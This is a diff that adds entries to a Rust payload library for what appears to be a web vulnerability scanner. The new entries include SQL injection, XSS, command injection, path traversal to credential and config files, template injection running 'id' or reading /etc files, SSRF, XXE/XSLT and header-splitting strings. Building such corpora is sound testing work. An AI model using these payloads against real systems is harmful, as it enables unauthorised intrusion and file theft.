@@ -104,6 +104,14 @@ const SQL: &[&str] = &[
     "{n}; load data infile 'x' into table {t}",
     "1e0union select {n},2",
     "1e1union select null,{n}",
+    "-{n} OR 1 GROUP BY CONCAT(0x7e,md5({n}),0x7e,FLOOR(RAND(0)*2)) HAVING MIN(0)#",
+    "{n} GROUP BY CONCAT((SELECT user()),FLOOR(RAND(0)*2)) HAVING MAX(0) -- x",
+    "{n}\tunion#\n\rselect--\n\r1,2,{n}",
+    "{w}' union#\nselect#\nnull,{n}-- ",
+    "{n}) user_lock.sleep(5)",
+    "dbms_xmlgen.getxml('select user from dual')",
+    "set global general_log_file = '/var/www/html/{w}.php';",
+    "set global {w} = 'x';",
 ];
 
 const NOSQL: &[&str] = &[
@@ -166,6 +174,10 @@ const XSS: &[&str] = &[
     "top[/*a*/'confirm'/*b*/]({n})",
     "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
     "\"<div onmouseover=\"\"document.write({n});\"\">\"",
+    "[{w}](javascript:alert({n}))",
+    "[{w}](<javascript://%0d%0aprompt({n})>)",
+    "[{w}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![{w}]( java\tscript:confirm({n}))",
 ];
 
 const COMMAND: &[&str] = &[
@@ -207,6 +219,12 @@ const COMMAND: &[&str] = &[
     "/bin/uname|",
     "s:16:\"L2V0Yy9wYXNzd2Q=;\"|id",
     "(#r=#this.getClass().forName('java.lang.Runtime'))",
+    "&& cat {w}",
+    "\"; cat {w}",
+    "10.0.0.{d};echo {w}",
+    "{w};sleep {n} #",
+    "\" || echo db 6c 41 68 >>{w}",
+    "{w}' || echo {n} {n} >>{w}",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -238,6 +256,10 @@ const TRAVERSAL: &[&str] = &[
     "../web.config",
     ".../.../.../.../etc",
     "..%c0%afetc/hosts",
+    "?page=php://input",
+    "http://shop.example/index.php?file=phar://{w}.zip/b.jpg",
+    "/root/.ssh/known_hosts",
+    "C:\\Windows\\Panther\\Unattend\\{w}.xml",
 ];
 
 const LDAP: &[&str] = &[
@@ -301,6 +323,36 @@ const TEMPLATE: &[&str] = &[
     "%{#context['xwork.MethodAccessor.denyMethodExecution']}",
     "$\\A{{n}*{n}}",
     "$\\B{{n}*7}",
+    "{{ this.toString() }}",
+    "{{ config['{w}']('cat flag',shell=True) }}",
+    "{{ $x := .Echo.Filesystem.Open \"/{w}\" }} {{ .Stream {n} \"text/plain\" $x }}",
+    "{{ .System \"id\" }}",
+    "{{ {n} | times:{n} }}",
+    "{{ '{w}' | upcase }}",
+    "{w}{% if {n} == 1 %}a{% endif %}",
+    "{% if 'a' != '{w}' %}{w}{% endif %}",
+    "<%=%x(ls )%>",
+    "#{`id`}",
+    "<%'${{/#{@}}%>{{",
+    "${{<%[%'\"}}%{w}",
+    "{{n}*{n}}",
+    "{{system('id')}}",
+    "{{w}.__init__.__globals__[CONFIG]}",
+    "{{w}.__class__.__mro__}",
+    "{if phpinfo()}{/if}",
+    "{self::getStreamVariable(\"file:///etc/{w}\")}",
+    "@System.IO.File.ReadAllText(\"{w}\")",
+    "@System.Diagnostics.Process.Start(\"{w}\",\"a\")",
+    "{% import os %}{{ os.name }}",
+    "{% include '/etc/{w}' %}",
+    "${'id'.execute()}",
+    "${request.getParameter(\"{w}\")}",
+    "${applicationScope}",
+    "<%= ENV %>",
+    "{{ printf \"%s\" \"{w}\" }}",
+    "{{ lookup '{w}' }}",
+    "*{T(org.{w}.IOUtils).toString(1)}",
+    "{{ request['{w}'] }}",
 ];
 
 const SSRF: &[&str] = &[
@@ -330,6 +382,8 @@ const SSRF: &[&str] = &[
     "gopher://127.0.0.1:6379/_config set dir /var/www",
     "jdbc:db2://a:1/b:clientRerouteServerListJNDIName=ldap://{h}/a",
     "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
+    "https://520968996/{w}",
+    "https://0x1f0d5e44/",
 ];
 
 const XXE: &[&str] = &[
@@ -340,6 +394,10 @@ const XXE: &[&str] = &[
     "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
     "<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://{h}/x.dtd\"><r>{w}</r>",
     "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE x [<!ENTITY z SYSTEM \"expect://id\">]><text>&z;</text></svg>",
+    "<xsl:value-of select=\"system-property('xsl:vendor')\" />",
+    "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include href=\"http://{h}/x\"/></xsl:stylesheet>",
+    "<xsl:copy-of select=\"document('/etc/{w}')\"/>",
+    "<xsl:value-of select=\"php:function('phpinfo')\"/>",
     "<?xml version=\"1.0\"?>\n<!DOCTYPE {w} [\n<!ELEMENT {w} ANY>\n<!ENTITY xxe SYSTEM \"php://filter/read=convert.base64-encode/resource=a\">]>\n<r>&xxe;</r>",
 ];
 
@@ -367,4 +425,6 @@ const SPLITTING: &[&str] = &[
     "{w}%0d%0aSet-Cookie: a={n}",
     "{w}\\r\\nSet-Cookie: a={n}",
     "{w}\u{560D}\u{560A}Set-Cookie: a={n}",
+    "{w}\r\nHeader-Test: {n}",
+    "{w}%0d%0aX-Test-{w}: {n}",
 ];
